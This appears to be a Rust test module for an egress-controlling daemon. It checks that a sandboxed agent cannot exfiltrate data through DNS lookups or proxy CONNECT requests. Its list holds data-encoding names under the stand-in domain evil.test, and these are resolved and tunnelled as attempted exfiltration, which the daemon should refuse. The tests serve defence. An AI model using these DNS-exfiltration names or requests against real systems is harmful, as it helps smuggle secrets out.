//! DNS as a channel: a name carries data, and the server of its domain receives it.

use onecli_tests::client::Run;
use onecli_tests::need;

use crate::stage::row::{Row, Trial};
use crate::stage::world::{A, World, reply};

pub(crate) const ROWS: &[Row] = &[
    Row::new(
        "dns/exfiltration",
        "a channel for data, as names of its own domain",
        "an allowed name resolves",
        exfiltration,
    ),
    Row::new(
        "dns/connect",
        "a channel for data, as CONNECT targets at the explicit proxy",
        "CONNECT to an allowed host succeeds",
        connect,
    ),
];

/// Names that carry data.
const NAMES: &[&str] = &[
    "7365637265742d64617461.evil.test",
    "a.b.c.d.e.f.g.evil.test",
    "data.a.test",
    "_dmarc.evil.test",
    "xn--e1afmkfd.evil.test",
];

fn exfiltration(trial: &mut Trial) {
    if let Some(why) = need::bpf_missing() {
        return trial.not_run(why);
    }
    let script = crate::stage::world::Script::start(&[A], |_, conn| reply(conn, "ok"));
    let world = World::built(onecli_tests::daemon::Daemon::builder(), script, &[A]);
    let agent = world.daemon.add_agent("inside", &["--factors", "token,cgroup", "--user", "nobody"]);
    world.secret("key", A, crate::stage::world::VALUE, &["--bearer", "--env", "KEY"]);
    let _ = world.daemon.grant(&agent, "key");
    let resolve = |name: &str| {
        let run = Run::new("getent").args(["ahosts", name]);
        world.daemon.managed(&agent, &run).outcome()
    };
    trial.control("the allowed name resolves", resolve(A).status.success());
    for name in NAMES {
        let outcome = resolve(name);
        // An address of `dns.refused_range` points to the daemon, which sent no query for the name.
        let resolved = outcome.out().lines().any(|line| !line.starts_with("198.1"));
        trial.attempt(format!("{name}: {}", outcome.out()), resolved);
    }
    for name in NAMES {
        // A query without a following connection is recorded two seconds later.
        let refused = onecli_tests::wait_for(std::time::Duration::from_secs(10), || {
            let records = world.daemon.audit();
            records.iter().any(|r| r["host"] == *name && r["code"] == "egress_denied").then_some(())
        });
        trial.attempt(format!("{name} was queried outside"), refused.is_none());
    }
}

fn connect(trial: &mut Trial) {
    let (world, _) = World::with_key(&["--bearer"], |_, conn| reply(conn, "ok"));
    let answer = world.get(A, "/", "Connection: close\r\n");
    trial.control("CONNECT to the allowed host", answer.status == 200);
    for name in NAMES {
        let head = format!(
            "CONNECT {name}:443 HTTP/1.1\r\nHost: {name}:443\r\nProxy-Authorization: Bearer {}\r\n\r\n",
            world.agent.token
        );
        let answer = String::from_utf8_lossy(&world.raw_head(head.as_bytes())).into_owned();
        let refused = answer.contains("x-onecli-error: egress_denied");
        trial.attempt(format!("{name}: {}", answer.lines().next().unwrap_or_default()), !refused);
    }
}
